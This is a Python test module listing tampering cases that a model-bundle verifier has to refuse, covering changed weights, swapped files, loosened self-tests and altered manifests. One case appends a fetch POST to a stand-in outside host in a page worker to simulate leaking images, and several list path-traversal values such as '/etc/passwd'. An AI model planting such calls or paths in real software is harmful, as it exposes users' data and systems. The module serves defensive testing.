"""Bundles in which a file was changed, taken, added or led elsewhere."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.formats.test_formats import unpacked
from tests.saboteurs.bench import edit
from tests.saboteurs.table import Mutation
from xport.common import digests
from xport.judgement.evidence import EVIDENCE

Spoil = Callable[[Path], object]


def raw(name: str, what: str, said: str, spoil: Spoil) -> Mutation:
    """A bundle that was changed, whose manifest stays."""
    return _mutation(name, what, said, spoil, relisted=False)


def redone(name: str, what: str, said: str, spoil: Spoil) -> Mutation:
    """A bundle that was changed, whose manifest's digests were redone."""
    return _mutation(name, what, said, spoil, relisted=True)


def _mutation(name: str, what: str, said: str, spoil: Spoil, *, relisted: bool) -> Mutation:
    return Mutation(
        name,
        what,
        "verify",
        "refused, exit code 3",
        said,
        lambda bench: bench.verified(spoil, relisted=relisted),
    )


def manifest(
    name: str,
    what: str,
    said: str,
    spoil: Callable[[dict[str, Any]], object],
    outcome: int = 3,
) -> Mutation:
    """A manifest that says other things."""
    code = "refused, exit code 2" if outcome == 2 else "refused, exit code 3"
    return Mutation(name, what, "verify", code, said, lambda bench: bench.manifest(spoil))  # type: ignore[arg-type]


def append(path: str, text: str = " ") -> Spoil:
    """Write something at the end of a file."""

    def spoil(bundle: Path) -> None:
        with (bundle / path).open("ab") as file:
            file.write(text.encode())

    return spoil


def gone(path: str) -> Spoil:
    """Take a file away."""
    return lambda bundle: (bundle / path).unlink()


def another_licence(bundle: Path) -> None:
    """Have the bill of materials say another licence of a package."""
    bill = bundle / "bom.cdx.json"
    bill.write_text(bill.read_text().replace('"id": "ISC"', '"id": "0BSD"'))


def weights(bundle: Path) -> None:
    """Change a byte of a model's weights."""
    path = next((bundle / "models" / "classifier").glob("*.bin"))
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.write_bytes(content)


def exchanged(bundle: Path) -> None:
    """Give one model another's document."""
    models = bundle / "models"
    shutil.copyfile(models / "autoencoder/preprocess.json", models / "classifier/preprocess.json")


def linked(bundle: Path) -> None:
    """Put a link in the place of a file."""
    (bundle / "app.css").unlink()
    (bundle / "app.css").symlink_to(bundle / "engine.js")


def empty_folder(bundle: Path) -> None:
    """Leave an empty folder."""
    (bundle / "notes").mkdir()


def pipe(bundle: Path) -> None:
    """Leave a pipe."""
    os.mkfifo(bundle / "pipe")


def self_test(change: Callable[[dict[str, Any]], object]) -> Spoil:
    """Change the self-test."""
    return lambda bundle: edit(bundle / "self_test/self_test.json", change)


def one_case(content: dict[str, Any]) -> None:
    """Leave one case of the classifier."""
    classifier = content["models"]["classifier"]
    classifier["cases"] = classifier["cases"][:1]


def softer(content: dict[str, Any]) -> None:
    """Allow a thousand times more."""
    content["models"]["classifier"]["tolerances"][0]["max_abs"] *= 1000


def softer_maps(content: dict[str, Any]) -> None:
    """Allow maps that are a thousand times further."""
    content["models"]["explanation"]["likenesses"][0]["max_relative_l2"] *= 1000


def other_picture(content: dict[str, Any]) -> None:
    """Say that an example becomes another input."""
    picture = content["pictures"][0]["inputs"]
    picture[next(iter(picture))] = "0" * 64


def other_case(bundle: Path) -> None:
    """Change what a case of the autoencoder expects."""
    path = next((bundle / "self_test").glob("autoencoder-0-out-latent.bin"))
    path.write_bytes(path.read_bytes()[:-4] + b"\0\0\0\x3f")

    def redo(content: dict[str, Any]) -> None:
        for case in content["models"]["autoencoder"]["cases"]:
            for entry in case["outputs"].values():
                if entry["path"] == f"self_test/{path.name}":
                    entry["sha256"] = digests.of_file(path)

    edit(bundle / "self_test/self_test.json", redo)


def another_example(bundle: Path) -> None:
    """Put another image in the place of an example."""
    first, second, *_ = sorted((bundle / "examples").iterdir())
    shutil.copyfile(second, first)


def another_release(bundle: Path) -> None:
    """Put in the evidence of an older release."""
    place = bundle.parent / "old"
    place.mkdir()
    shutil.copyfile(unpacked("bundle-3", place) / EVIDENCE, bundle / EVIDENCE)


def posts_images(bundle: Path) -> None:
    """Let the page's worker send what it decodes elsewhere."""
    append("picture.worker.js", "\nfetch('//elsewhere.invalid', { method: 'POST' });")(bundle)


def opened_policy(bundle: Path) -> None:
    """Take the content security policy out of the page."""
    path = bundle / "index.html"
    path.write_text(path.read_text().replace("Content-Security-Policy", "X-Nothing"))


def leads_out(content: dict[str, Any]) -> None:
    """Let a model's files lie outside the bundle."""
    content["models"]["classifier"]["path"] = "../elsewhere/"


def no_digest(content: dict[str, Any]) -> None:
    """Take a digest out of the manifest."""
    del content["files"]["engine.js"]["sha256"]


def unlisted(content: dict[str, Any]) -> None:
    """Take a file's whole entry out of the manifest."""
    del content["files"]["engine.js"]


def no_self_test(content: dict[str, Any]) -> None:
    """Take the self-test out of the manifest."""
    del content["self_test"]


def path_of_file(path: str) -> Callable[[dict[str, Any]], object]:
    """List a file of the page under a path that is none of a bundle."""

    def spoil(content: dict[str, Any]) -> None:
        content["files"][path] = content["files"].pop("app.css")

    return spoil


def shared_elsewhere(content: dict[str, Any]) -> None:
    """Let an explanation share a shard that lies outside the bundle."""
    files = content["models"]["explanation"]["files"]
    next(iter(files.values()))["path"] = "../weights.bin"


def fewer_examples(content: dict[str, Any]) -> None:
    """Take an example out of the list of examples; its file stays."""
    content["examples"].pop()


def two_files(bundle: Path) -> None:
    """Change two files, and take a third away."""
    append("app.js")(bundle)
    append("models/autoencoder/preprocess.json")(bundle)
    gone("codec-jpeg.js")(bundle)


def no_pictures(content: dict[str, Any]) -> None:
    """Tell of no picture what it becomes."""
    content["pictures"] = []


def labels(content: dict[str, Any]) -> None:
    """Exchange two labels."""
    found = content["models"]["classifier"]["labels"]
    found[0], found[1] = found[1], found[0]


def tools(content: dict[str, Any]) -> None:
    """Name another version of a tool."""
    content["tools"]["tfjs"] = "5.0.0"


MUTATIONS = [
    raw(
        "page script changed",
        "A byte is added to the page's script.",
        "file app.js is changed",
        append("app.js"),
    ),
    raw(
        "engine changed",
        "A byte is added to the engine.",
        "file engine.js is changed",
        append("engine.js"),
    ),
    raw(
        "weights changed",
        "A bit of the classifier's weights is another.",
        "models/classifier/",
        weights,
    ),
    raw(
        "definition changed",
        "A byte is added to the definition of preprocessing.",
        "models/classifier/preprocess.json is changed",
        append("models/classifier/preprocess.json"),
    ),
    raw(
        "file added",
        "A script lies in the bundle that nobody lists.",
        "file extra.js is extra",
        append("extra.js", "//"),
    ),
    raw(
        "file renamed",
        "A file has another name.",
        "file icon.png is extra",
        lambda b: (b / "icon-192.png").rename(b / "icon.png"),
    ),
    raw(
        "link",
        "A link stands in the place of a file.",
        "app.css: a link stands for a file of the bundle",
        linked,
    ),
    raw(
        "empty folder",
        "An empty folder lies in the bundle.",
        "notes: an empty folder",
        empty_folder,
    ),
    raw("pipe", "A pipe lies in the bundle.", "pipe: neither a file nor a folder", pipe),
    redone(
        "engine removed",
        "The engine is gone from disk and manifest.",
        "engine.js is not listed",
        gone("engine.js"),
    ),
    redone(
        "service worker removed",
        "The service worker is gone from disk and manifest.",
        "sw.js is not listed",
        gone("sw.js"),
    ),
    redone(
        "licence removed",
        "A licence is gone from disk and manifest.",
        "licenses/engine.md is not listed",
        gone("licenses/engine.md"),
    ),
    redone(
        "report removed",
        "The report is gone from disk and manifest.",
        "report.html is not listed",
        gone("report.html"),
    ),
    redone(
        "bill of materials removed",
        "The bill of materials is gone from disk and manifest.",
        "bom.cdx.json is not listed",
        gone("bom.cdx.json"),
    ),
    redone(
        "page script changed, redone",
        "The page's script is another, its digest redone.",
        "app.js is not the page's file that the plan names",
        append("app.js", "//"),
    ),
    redone(
        "service worker changed, redone",
        "The service worker is another, its digest redone.",
        "sw.js is not the page's file that the plan names",
        append("sw.js", "//"),
    ),
    redone(
        "a page that posts images elsewhere",
        "The worker that decodes sends images elsewhere, its digest redone.",
        "picture.worker.js is not the page's file that the plan names",
        posts_images,
    ),
    redone(
        "no content security policy",
        "The page's policy is taken out, its digest redone.",
        "index.html is not the page's file that the plan names",
        opened_policy,
    ),
    redone(
        "licence changed, redone",
        "A licence says something else, its digest redone.",
        "licenses/app.md is not the page's file that the plan names",
        append("licenses/app.md"),
    ),
    redone(
        "engine changed, redone",
        "The engine is another, its digest redone.",
        "engine.js is not the file that was verified on",
        append("engine.js", "//"),
    ),
    redone(
        "weights changed, redone",
        "A bit of the weights is another, its digest redone.",
        "classifier: a file is not that of the evidence",
        weights,
    ),
    redone(
        "another model's definition",
        "The classifier has the autoencoder's preprocessing, digests redone.",
        "yields an input of shape",
        exchanged,
    ),
    redone(
        "report changed, redone",
        "The report says something else, its digest redone.",
        "report.html is not what the evidence gives",
        append("report.html", "<p>Approved.</p>"),
    ),
    redone(
        "bill of materials changed, redone",
        "The bill of materials names another licence, its digest redone.",
        "bom.cdx.json is not what the evidence gives: components",
        another_licence,
    ),
    redone(
        "headers changed, redone",
        "The headers that a host is told are others, digest redone.",
        "_headers does not tell a host what this page needs",
        append("_headers", "\n/*\n  X-Other: 1\n"),
    ),
    redone(
        "extra script, listed",
        "A further script lies in the bundle and is listed.",
        "_headers does not tell a host what this page needs",
        append("more.html", "<script></script>"),
    ),
    redone(
        "self-test of one case",
        "The self-test of a model is cut to one case.",
        "classifier: it has 1 of at least 2 cases",
        self_test(one_case),
    ),
    redone(
        "softer self-test",
        "The self-test allows a thousand times more.",
        "the bound of",
        self_test(softer),
    ),
    redone(
        "softer self-test of maps",
        "The self-test of the explanation allows a thousand times more.",
        "explanation: the bound of gradient is not the verdict's",
        self_test(softer_maps),
    ),
    redone(
        "self-test of other numbers",
        "A case of the self-test expects other outputs, digests redone.",
        "is not what PyTorch recorded",
        other_case,
    ),
    redone(
        "self-test of another picture",
        "An example is said to become another input than in the run.",
        "does not become that input of",
        self_test(other_picture),
    ),
    redone(
        "another example",
        "An example is another image, its digest redone.",
        "is no example of the run",
        another_example,
    ),
    redone(
        "evidence of another release",
        "The evidence of an older release lies in the bundle.",
        "is not that of the evidence",
        another_release,
    ),
    manifest(
        "digest deleted",
        "A file's digest is deleted from the manifest: it is refused, not skipped.",
        "sha256: Field required",
        no_digest,
        2,
    ),
    manifest(
        "entry deleted",
        "A file's whole entry is deleted from the manifest.",
        "file engine.js is extra",
        unlisted,
    ),
    manifest(
        "no self-test named",
        "The manifest names no self-test.",
        "self_test: Field required",
        no_self_test,
        2,
    ),
    manifest(
        "a path that leads elsewhere",
        "A model's folder in the manifest lies outside the bundle.",
        "path",
        leads_out,
        2,
    ),
    manifest(
        "an absolute path",
        "A file is listed under an absolute path.",
        "does not lie in",
        path_of_file("/etc/passwd"),
        2,
    ),
    manifest(
        "a path of Windows",
        "A file is listed under a path that leads out on Windows.",
        "does not lie in",
        path_of_file("..\\app.css"),
        2,
    ),
    manifest(
        "a drive of Windows",
        "A file is listed on another drive.",
        "does not lie in",
        path_of_file("C:app.css"),
        2,
    ),
    manifest(
        "shared outside",
        "An explanation shares a shard that lies outside the bundle.",
        "does not lie in",
        shared_elsewhere,
        2,
    ),
    manifest(
        "an example taken out",
        "An example of the run is not listed as one any more.",
        "is an example of the run, and not in the bundle",
        fewer_examples,
    ),
    manifest(
        "silent of the page",
        "The manifest does not say whether the page can show the release.",
        "does not say whether the page can show the release",
        lambda m: m.update(publishable=None),
    ),
    raw(
        "three files at once",
        "Two files are changed and one is gone: all three are named, not the first.",
        "also: file models/autoencoder/preprocess.json is changed",
        two_files,
    ),
    redone(
        "a text, listed",
        "A text lies in the bundle, which is listed, and which no bundle has.",
        "notes.txt is listed, and no file of a bundle",
        append("notes.txt", "read me"),
    ),
    redone(
        "a module, listed",
        "A WebAssembly module lies in the bundle, listed, that no page names.",
        "extra.wasm is listed, and no file of a bundle",
        append("extra.wasm", "x"),
    ),
    redone(
        "self-test without pictures",
        "The self-test does not tell any more what an example becomes.",
        "is an example, and its inputs are not told once",
        self_test(no_pictures),
    ),
    manifest(
        "labels exchanged",
        "Two labels are exchanged in the manifest.",
        "classifier: labels is not that of the evidence",
        labels,
    ),
    manifest(
        "other verdict told",
        "The manifest says FAILED.",
        "the verdict is not that of the evidence",
        lambda m: m.update(verdict="FAILED"),
    ),
    manifest(
        "no notice",
        "The manifest's notice says something else.",
        "the notice is not that of the evidence",
        lambda m: m.update(notice="For clinical use"),
    ),
    manifest(
        "other tools told",
        "The manifest names another version of the engine.",
        "the tools is not that of the evidence",
        tools,
    ),
    manifest(
        "other threads told",
        "The manifest asks for more wasm threads than were verified.",
        "wasm_threads is not that of the evidence",
        lambda m: m.update(wasm_threads=8),
    ),
]
